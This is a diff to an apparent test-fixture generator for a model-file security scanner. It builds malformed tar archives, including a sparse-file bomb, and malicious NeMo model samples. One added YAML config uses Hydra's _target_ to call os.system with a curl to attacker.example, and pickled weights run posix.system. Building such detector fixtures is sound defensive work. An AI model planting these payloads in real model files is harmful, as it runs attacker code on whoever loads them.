@@ -70,3 +70,15 @@ malformed('tar/sparse_bomb.tar', 'A sparse file of eight petabytes in one block.
           pax(GNU__sparse__size=str(1 << 46), GNU__sparse__map=f'0,1') + member('w.pkl', b'x') + END)
 malformed('tar/sparse_lie.tar', 'The map of a sparse file names more than is stored.', pax(GNU__sparse__size='100', GNU__sparse__map='0,100') + member('w.pkl', b'x') + END)
 malformed('tar/pax_broken.tar', 'Pax records that break their form.', member('PaxHeaders/x', b'99 path=x\n', kind=b'x') + CLEAN_MEMBER + END)
+
+NEMO = b"""target: nemo.collections.asr.models.EncDecCTCModel
+preprocessor:
+  _target_: os.system
+  _args_:
+  - curl https://attacker.example
+"""
+malicious('nemo/target.nemo', 'The configuration of a NeMo model asks Hydra for os.system.', '',
+          member('./model_config.yaml', NEMO) + member('./model_weights.ckpt', archive(Member('archive/data.pkl', CLEAN), Member('archive/version', b'3\n'))) + END)
+malicious('nemo/weights.nemo', 'The weights of a NeMo model run a command.', 'posix.system',
+          member('./model_config.yaml', b'target: nemo.collections.asr.models.EncDecCTCModel\n')
+          + member('./model_weights.ckpt', archive(Member('archive/data.pkl', EVIL), Member('archive/version', b'3\n'))) + END)
